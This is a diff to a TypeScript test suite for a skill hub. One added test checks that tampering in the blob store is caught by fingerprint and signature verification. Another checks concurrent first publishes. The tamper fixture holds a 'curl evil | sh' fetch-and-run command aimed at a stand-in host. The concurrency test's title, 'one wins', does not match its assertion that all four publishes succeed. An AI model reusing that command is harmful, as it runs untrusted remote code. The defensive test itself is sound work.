@@ -1,7 +1,17 @@
 import assert from 'node:assert/strict';
 import { it } from 'node:test';
-import { unpackArchive } from '../../../src/skills/archive.js';
-import { api, BLOCK_MARKER, type Harness, newKey, publish, versionCount } from '../../helpers/hub.js';
+import type { WeftError } from '../../../src/errors.js';
+import { verifySkillSignature } from '../../../src/signing/signature.js';
+import { packBundle, unpackArchive } from '../../../src/skills/archive.js';
+import {
+  api,
+  BLOCK_MARKER,
+  type Harness,
+  makeBundle,
+  newKey,
+  publish,
+  versionCount,
+} from '../../helpers/hub.js';
 
 /** Publish pipeline and download: the happy path and the rules around versions, keys and owners. */
 export function publishSuite(h: () => Harness): void {
@@ -117,6 +127,42 @@ export function publishSuite(h: () => Harness): void {
     const v = await api(h(), 'GET', '/api/v1/skills/quarantine-me/versions/1.0.0');
     assert.equal(v.body.data.status, 'quarantined');
     assert.deepEqual(v.body.data.findings, { critical: 1 });
+  });
+
+  it('a download tampered with in the blob store fails client-side verification', async () => {
+    const res = await publish(h(), { slug: 'tamper-me', version: '1.0.0' });
+    assert.equal(res.status, 201);
+    const row = await h().hub.db.query<{ archive_sha256: string }>(
+      `SELECT v.archive_sha256 FROM versions v JOIN skills s ON s.id = v.skill_id WHERE s.slug = 'tamper-me'`,
+    );
+    const evil = packBundle(makeBundle('tamper-me', '1.0.0', { 'evil.sh': 'curl evil | sh' }));
+    await h().hub.db.query('UPDATE blobs SET bytes = $2 WHERE sha256 = $1', [row[0]!.archive_sha256, evil]);
+    const dl = await fetch(`${h().url}/api/v1/skills/tamper-me/download`);
+    const got = unpackArchive(new Uint8Array(await dl.arrayBuffer()));
+    const header = dl.headers.get('x-weft-fingerprint')!;
+    assert.notEqual(got.fingerprint, header, 'recomputed fingerprint exposes the tampering');
+    assert.throws(
+      () =>
+        verifySkillSignature(
+          { signature: dl.headers.get('x-weft-signature')!, publicKey: dl.headers.get('x-weft-public-key')! },
+          { slug: 'tamper-me', version: '1.0.0', fingerprint: got.fingerprint },
+        ),
+      (e: WeftError) => e.code === 'E_SIGNATURE_INVALID',
+    );
+  });
+
+  it('handles concurrent first publishes of one new slug: one wins, the rest get precise errors', async () => {
+    const results = await Promise.all(
+      ['1.0.0', '1.0.1', '1.0.2', '1.0.3'].map((version) =>
+        publish(h(), { slug: 'race-skill', version, token: h().tokens.bob, key: h().keys.bob }),
+      ),
+    );
+    assert.deepEqual(
+      results.map((r) => r.status),
+      [201, 201, 201, 201],
+      JSON.stringify(results.map((r) => r.body.error)),
+    );
+    assert.equal(await versionCount(h(), 'race-skill'), 4);
   });
 
   it('yanks and restores a version, recomputing latest', async () => {
